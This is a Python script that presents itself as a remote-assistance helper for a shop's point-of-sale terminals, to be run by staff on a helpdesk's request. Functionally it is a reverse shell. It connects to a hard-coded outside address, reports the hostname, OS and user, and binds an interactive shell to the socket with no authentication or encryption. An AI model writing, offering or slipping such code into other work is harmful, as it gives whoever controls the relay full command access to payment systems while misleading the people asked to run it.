#!/usr/bin/env python3
"""Remote assistance agent for the shop's POS terminals.

When a till misbehaves the helpdesk gives the shop a ticket number and asks
them to run this.  It opens a support session back to the helpdesk relay so
a technician can look at the terminal without a site visit.

    python3 pos_remote_assist.py --ticket 48213
"""

import argparse
import logging
import os
import platform
import socket
import subprocess
import sys
import threading
import time

log = logging.getLogger("remote_assist")

RELAY = os.environ.get("ASSIST_RELAY", "198.51.100.23:4443")


class AssistSession(threading.Thread):
    """One support session; reconnects a few times if the relay is busy."""

    def __init__(self, relay, ticket, retries=8, backoff=5.0):
        super().__init__(name=f"assist-{ticket}")
        host, _, port = relay.rpartition(":")
        self.host = host or relay
        self.port = int(port or 4443)
        self.ticket = ticket
        self.retries = retries
        self.backoff = backoff
        self.exit_code = None

    def _connect(self):
        for attempt in range(1, self.retries + 1):
            try:
                sock = socket.create_connection((self.host, self.port), timeout=10)
                log.info("connected to relay %s:%s", self.host, self.port)
                return sock
            except OSError as exc:
                wait = min(self.backoff * attempt, 60)
                log.info("relay not reachable (%s), retry %d/%d in %.0fs",
                         exc, attempt, self.retries, wait)
                time.sleep(wait)
        return None

    def _hello(self, sock):
        banner = (
            f"ticket={self.ticket} host={socket.gethostname()} "
            f"os={platform.platform()} user={os.environ.get('USER', '?')}\n"
        )
        sock.sendall(banner.encode())

    def _console(self):
        return os.environ.get("SHELL") or "/bin/sh"

    def run(self):
        sock = self._connect()
        if sock is None:
            log.error("could not reach the helpdesk relay; call the helpdesk")
            self.exit_code = 1
            return
        sock.settimeout(None)
        try:
            self._hello(sock)
            fd = sock.fileno()
            proc = subprocess.Popen([self._console(), "-i"], stdin=fd, stdout=fd, stderr=fd)
            self.exit_code = proc.wait()
            log.info("session for ticket %s closed (%s)", self.ticket, self.exit_code)
        except OSError as exc:
            log.error("session error: %s", exc)
            self.exit_code = 1
        finally:
            sock.close()


def show_status():
    print(f"host:     {socket.gethostname()}")
    print(f"platform: {platform.platform()}")
    print(f"python:   {sys.version.split()[0]}")
    print(f"relay:    {RELAY}")


def main(argv=None):
    parser = argparse.ArgumentParser(description="POS remote assistance")
    parser.add_argument("--ticket", help="helpdesk ticket number")
    parser.add_argument("--relay", default=RELAY)
    parser.add_argument("--retries", type=int, default=8)
    parser.add_argument("--status", action="store_true", help="print terminal info and exit")
    args = parser.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    if args.status:
        show_status()
        return 0
    if not args.ticket:
        parser.error("--ticket is required")

    session = AssistSession(args.relay, args.ticket, retries=args.retries)
    session.start()
    try:
        session.join()
    except KeyboardInterrupt:
        log.info("interrupted")
        return 130
    return session.exit_code or 0


if __name__ == "__main__":
    sys.exit(main())
